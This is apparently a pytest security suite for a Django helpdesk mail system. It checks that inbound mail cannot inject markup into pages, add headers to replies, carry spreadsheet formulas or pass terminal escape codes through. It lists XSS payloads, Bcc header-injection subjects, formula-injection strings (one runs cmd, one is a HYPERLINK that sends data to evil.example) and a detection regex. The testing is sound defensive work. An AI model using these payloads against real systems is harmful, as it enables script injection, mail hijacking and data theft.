"""Markup in every place of a mail that some page, mail or file of ours repeats (ML-35, ML-45)."""

from __future__ import annotations

import json
import re
from html import unescape
from io import StringIO

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client

from mailchannel.compose.headers import LOOP_HEADER
from mailchannel.models import InboundMail, OutboundMail
from tests.hostile.conftest import Receive
from tests.hostile.mails import cases, file, mail, multipart, text
from tickets.models import Ticket
from tickets.services import assign, reply_as_agent, set_status

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

MARKUP = {
    "ML-35-script": "<script>alert(1)</script>",
    "ML-35-image": "<img src=x onerror=alert(1)>",
    "ML-35-attribute": "\"'><svg onload=alert(1)>",
    "ML-35-title": "</title><script>alert(1)</script>",
    "ML-35-textarea": "</textarea></template></style><script>alert(1)</script>",
    "ML-35-json": "</script><script>alert(1)</script>",
    "ML-35-entities": "&lt;script&gt;alert(1)&lt;/script&gt;&quot;",
    "ML-35-comment": "--><script>alert(1)</script><!--",
    "ML-35-handler": "x\" onmouseover=\"alert(1)\" x='",
    "ML-35-link": "https://example.com/\"onclick=\"alert(1)",
    "ML-35-link-scheme": "javascript:alert(1)//https://example.com",
    "ML-35-mail-link": "mailto:a@b.example?x=\"><script>alert(1)</script>",
    "ML-35-markdown": "[x](javascript:alert(1)) ![x](//evil.example)",
    "ML-35-htmx": "<p hx-get=/ hx-trigger=load>",
}  # fmt: skip
#: What must not stand in any page as markup; the pages' own markup has none of it.
LIVE = re.compile(
    r"<script>alert|<img src=x|<svg onload|onmouseover=\"alert|onclick=\"alert|href=\"javascript:|<p hx-get", re.I
)


def loaded(markup: str) -> bytes:
    """The markup everywhere: subject, names, file name, file type, content id, header names and values, text."""
    code = markup.encode()
    quoted = code.replace(b"\\", b"\\\\").replace(b'"', b'\\"')
    return multipart(
        text(b"Words " + code),
        file(b"x", b'filename="' + quoted + b'.txt"', b'text/plain; name="' + quoted + b'"; x="' + quoted + b'"'),
        sender=b'From: "' + quoted + b'" <ann@example.com>',
        to=b'To: support@example.com, "' + quoted + b'" <bob@example.com>',
        subject=b"Subject: " + code,
        message_id=b"Message-ID: <" + code.replace(b" ", b"") .replace(b"<", b"").replace(b">", b"") + b"@a.example>",
    )  # fmt: skip


def check_escaped(page: str, markup: str) -> None:
    assert LIVE.search(page) is None, LIVE.search(page)
    assert markup not in page or "<" not in markup and '"' not in markup


@pytest.mark.req("ML-35")
@cases(MARKUP)
def test_markup_is_escaped_on_every_page(case: str, receive: Receive, agent: User, desk: Client) -> None:
    row = receive(loaded(case))
    ticket = Ticket.objects.get(pk=row.ticket_id)
    reply_as_agent(ticket=ticket, agent=agent, text=f"Seen: {case}")
    assign(ticket=ticket, agent=agent, to=agent)
    set_status(ticket=ticket, agent=agent, status="solved")
    set_status(ticket=ticket, agent=agent, status="open")

    log, sent = f"/admin/mailchannel/inboundmail/{row.pk}", OutboundMail.objects.get().pk
    for address in (
        *("/", "/?view=open", "/?q=alert", f"/tickets/{ticket.number}/", "/admin/mailchannel/inboundmail/"),
        *("/admin/mailchannel/inboundmail/?q=alert", f"{log}/change/", f"{log}/history/", f"{log}/source/"),
        *("/admin/mailchannel/outboundmail/", f"/admin/mailchannel/outboundmail/{sent}/change/", "/admin/"),
        *("/admin/tickets/ticket/", f"/admin/tickets/ticket/{ticket.pk}/change/"),
        *(f"/admin/tickets/ticket/{ticket.pk}/history/", f"/tickets/{ticket.number}/notes/{row.note_id}/mail/"),
        *("/admin/tickets/contact/", f"/admin/tickets/contact/{ticket.requester_id}/change/"),
    ):
        response = desk.get(address, follow=True)
        assert response.status_code == 200, address
        check_escaped(response.content.decode(), case)


@pytest.mark.req("ML-35")
@cases(MARKUP)
def test_markup_is_shown_letter_by_letter(case: str, receive: Receive, desk: Client) -> None:
    receive(loaded(case))
    ticket = Ticket.objects.get()

    for address in ("/", f"/tickets/{ticket.number}/", f"/admin/tickets/ticket/{ticket.pk}/change/"):
        assert case in unescape(desk.get(address).content.decode()), address


@pytest.mark.req("ML-35")
@cases(MARKUP)
def test_markup_in_a_refused_mail_is_escaped_in_the_log(case: str, receive: Receive, desk: Client) -> None:
    row = receive(mail(sender=f"From: {case} <a@b@example.com>".encode(), subject=f"Subject: {case}".encode()))
    assert row.reason == "rejected.sender_unreadable"

    for address in ("/admin/mailchannel/inboundmail/", f"/admin/mailchannel/inboundmail/{row.pk}/change/"):
        check_escaped(desk.get(address, follow=True).content.decode(), case)


@pytest.mark.req("ML-35")
@cases(MARKUP)
def test_markup_changes_nothing_in_the_mail_that_goes_out(case: str, receive: Receive, agent: User) -> None:
    receive(loaded(case))
    reply_as_agent(ticket=Ticket.objects.get(), agent=agent, text="Seen.")

    raw = bytes(OutboundMail.objects.get().raw)

    head = raw.replace(b"\r\n", b"\n").partition(b"\n\n")[0]
    names = {line.partition(b":")[0].lower() for line in head.split(b"\n") if line[:1] not in b" \t"}
    assert names <= {name.lower() for name in (b"From", b"To", b"Cc", b"Subject", b"Date", b"Message-ID", b"In-Reply-To",
                     b"References", b"Reply-To", b"MIME-Version", b"Content-Type", b"Content-Transfer-Encoding",
                     b"Auto-Submitted", b"X-Auto-Response-Suppress", LOOP_HEADER.encode())}  # fmt: skip
    assert b"text/html" not in raw


INJECTIONS = {
    "ML-35-line-end-in-the-subject": b"Subject: =?utf-8?q?Printer=0D=0ABcc:_victim=40example.com?=",
    "ML-35-newline-in-the-subject": b"Subject: =?utf-8?b?UHJpbnRlcgpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?=",
    "ML-35-folded-subject": b"Subject: Printer\r\n Bcc: victim@example.com",
    "ML-35-line-separator": "Subject: Printer\u2028Bcc: victim@example.com".encode(),
    "ML-35-next-line": "Subject: Printer\u0085Bcc: victim@example.com".encode(),
    "ML-35-bare-return": b"Subject: Printer\rBcc: victim@example.com",
}


@pytest.mark.req("ML-35")
@cases(INJECTIONS)
def test_a_subject_adds_no_header_to_our_answer(case: bytes, receive: Receive, agent: User) -> None:
    receive(mail(subject=case, message_id=b"Message-ID: <1@example.com\r\n X-Evil: 1>"))
    reply_as_agent(ticket=Ticket.objects.get(), agent=agent, text="Seen.")

    mail_out = OutboundMail.objects.get()

    assert mail_out.recipients == ["ann@example.com"]
    assert not re.search(rb"(?im)^(bcc|x-evil):", bytes(mail_out.raw))


FORMULAS = {
    "ML-45-equals": "=cmd|' /C calc'!A0",
    "ML-45-plus": "+1+cmd|' /C calc'!A0",
    "ML-45-minus": "-2+3+cmd|' /C calc'!A0",
    "ML-45-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ML-45-tab": "\t=1+1",
    "ML-45-link": '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    "ML-45-full-width": "＝1+1",
}


@pytest.mark.req("ML-45")
@cases(FORMULAS)
def test_a_formula_is_a_subject_like_any_other(case: str, receive: Receive, desk: Client) -> None:
    row = receive(mail(subject=b"Subject: " + case.encode()))
    printed = StringIO()
    call_command("mail_log", "--json", stdout=printed)

    assert row.subject == case.strip() == Ticket.objects.get().title
    assert json.loads(printed.getvalue())["subject"] == case.strip()
    for address in ("/", "/admin/mailchannel/inboundmail/", "/admin/tickets/ticket/"):
        response = desk.get(address, follow=True)
        assert response["Content-Type"].startswith("text/html"), (
            "a table for spreadsheets needs the cells' signs escaped"
        )


CODES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f"


def test_the_list_on_a_terminal_obeys_no_mail(receive: Receive) -> None:
    raw = mail(subject=f"Subject: a{CODES}b".encode(), sender=f"From: {CODES} <a@b@c.example>".encode())
    printed = StringIO()

    receive(raw)
    call_command("mail_log", stdout=printed)

    assert InboundMail.objects.count() == 1 and printed.getvalue().rstrip("\n").isprintable()
